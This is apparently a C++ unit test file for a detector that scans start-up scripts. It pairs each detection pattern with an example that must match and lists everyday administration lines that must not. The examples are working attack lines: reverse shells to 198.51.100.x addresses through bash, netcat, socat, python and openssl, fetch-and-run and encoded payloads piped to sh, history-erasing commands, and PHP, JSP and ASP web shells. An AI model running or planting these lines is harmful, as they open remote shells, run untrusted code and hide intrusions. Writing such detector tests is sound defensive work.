// The shared start-up content patterns: every pattern has a line it must find, and lines an
// administrator writes every day find nothing.
#include <gtest/gtest.h>

#include <map>
#include <set>

#include "collect/script_pattern_table.hpp"
#include "collect/script_patterns.hpp"

using namespace vigil::collect;

namespace {

std::set<std::string> ids_in(std::string_view text) {
  std::set<std::string> out;
  for (const auto& h : scan_script(text)) out.emplace(h.pattern->id);
  return out;
}

}  // namespace

TEST(ScriptPatterns, EachPatternFindsItsExample) {
  const std::map<std::string, std::string> examples = {
      {"dev-tcp", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
      {"netcat-exec", "nc 198.51.100.7 4444 -e /bin/bash"},
      {"exec-shell-port", "/usr/local/bin/msupdate -l -p 3349 -e /bin/sh"},
      {"socat-exec", "socat TCP:198.51.100.9:443 EXEC:/bin/sh,pty,stderr"},
      {"fifo-shell", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"},
      {"script-socket-shell",
       "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"},
      {"openssl-shell", "openssl s_client -quiet -connect 198.51.100.7:443 | /bin/sh 2>&1"},
      {"telnet-shell", "telnet 198.51.100.7 80 | /bin/bash | telnet 198.51.100.7 81"},
      {"netcat-start", "@reboot nohup ncat -lk 8443 &"},
      {"fetch-pipe-shell", "curl -fsSL http://198.51.100.9/i.sh | sudo bash"},
      {"fetch-chmod", "wget -q http://198.51.100.9/x -O /usr/local/bin/x && chmod +x /usr/local/bin/x"},
      {"fetch-substitution", "bash -c \"$(curl -fsSL http://198.51.100.9/i.sh)\""},
      {"base64-pipe-shell", "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L2kuc2ggfCBzaA== | base64 -d | sh"},
      {"eval-decode", "eval \"$(echo aWQ= | base64 --decode)\""},
      {"xxd-pipe-shell", "echo 6964 | xxd -r -p | bash"},
      {"script-exec-decode", "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\""},
      {"perl-eval-unpack", "perl -e 'eval unpack u=>q{_<')"},
      {"hex-escape-payload",
       "printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x39\\x2f' | sh"},
      {"temp-program", "ExecStart=/bin/sh -c '/dev/shm/.k/kworker -o pool:3333'"},
      {"temp-chmod", "cp payload /var/tmp/.cache/x; chmod 755 /var/tmp/.cache/x"},
      {"unset-histfile", "unset HISTFILE"},
      {"histfile-null", "export HISTFILE=/dev/null"},
      {"histsize-zero", "export HISTSIZE=0"},
      {"set-o-history", "set +o history"},
      {"histignore-all", "HISTIGNORE='*'"},
      {"history-to-null", "ln -sf /dev/null /root/.bash_history"},
      {"history-clear", "history -c"},
      {"php-request-exec", "<?php @eval($_POST['x']); ?>"},
      {"php-backtick-request", "<?php echo `$_GET[c]`; ?>"},
      {"php-variable-function", "<?php $_GET['f']($_GET['a']); ?>"},
      {"php-preg-e", "<?php preg_replace('/.*/e', $_REQUEST['c'], ''); ?>"},
      {"jsp-request-exec", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
      {"asp-request-eval", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>"},
      {"webshell-marker", "$default_action = 'FilesMan';"},
  };
  for (const auto& p : script_patterns()) {
    auto it = examples.find(std::string(p.id));
    ASSERT_NE(it, examples.end()) << "pattern " << p.id << " has no example";
    EXPECT_TRUE(ids_in(it->second).contains(std::string(p.id))) << p.id << " missed: " << it->second;
  }
}

TEST(ScriptPatterns, EverydayAdministrationFindsNothing) {
  const char* lines[] = {
      "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
      "find /tmp -type f -mtime +7 -delete",
      "rm -rf /tmp/backup.$$ && tar czf /var/backups/etc.tgz /etc",
      "TMPFILE=$(mktemp /tmp/cron.XXXXXX)",
      "mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix",  // x11-common: the sticky bit, no x for a program
      "curl -fsS https://hc-ping.com/abc > /dev/null",
      "wget -q -O /var/lib/geoip/GeoLite2.mmdb.gz https://example.invalid/db.gz",
      "eval \"$(dircolors -b)\"",
      "eval \"$(ssh-agent -s)\"",
      "HISTCONTROL=ignoreboth",
      "HISTSIZE=1000",
      "HISTFILESIZE=2000",
      "shopt -s histappend",
      "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS",
      "[ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q",
      "ssh backup@198.51.100.3 'tar czf - /srv' | sh -c 'cat > /var/backups/srv.tgz'",
      "export PATH=\"$HOME/.local/bin:$PATH\"",
      "base64 -d key.b64 > /etc/ssl/private/key.pem",
      "if command -v ncdu >/dev/null; then alias du=ncdu; fi",
      "systemd-tmpfiles --clean",
      "xterm -e /bin/bash",
      "<?php echo htmlspecialchars($_GET['q']); ?>",
      "<?php $page = intval($_GET['page']); include 'list.php'; ?>",
      "<?php preg_replace('/\\s+/', ' ', $text); ?>",
      "<% String q = request.getParameter(\"q\"); %>",
  };
  for (const char* l : lines) EXPECT_TRUE(ids_in(l).empty()) << l << " -> " << *ids_in(l).begin();
}

TEST(ScriptPatterns, HitsNameTheirLines) {
  auto hits = scan_script("#!/bin/sh\n# fine\nunset HISTFILE\n\ncurl http://x/y | sh\n");
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_EQ(hits[0].line, 3u);
  EXPECT_EQ(hits[0].pattern->trait, ScriptTrait::history_off);
  EXPECT_EQ(hits[1].line, 5u);
  EXPECT_EQ(hits[1].pattern->trait, ScriptTrait::download_exec);
  EXPECT_TRUE(scan_script("").empty());
  EXPECT_TRUE(scan_script(std::string(100000, '\0')).empty());
}

TEST(ScriptPatterns, TheBuildEmbedsACurrentCompiledDatabase) {
  namespace data = vigil::collect::script_pattern_data;
  // Made from these very patterns, and loadable here: no run pays for compiling them.
  EXPECT_EQ(data::kDatabaseHash, data::patterns_hash());
  hs_database_t* db = nullptr;
  ASSERT_EQ(hs_deserialize_database(data::kDatabase, data::kDatabaseSize, &db), HS_SUCCESS);
  hs_free_database(db);
}
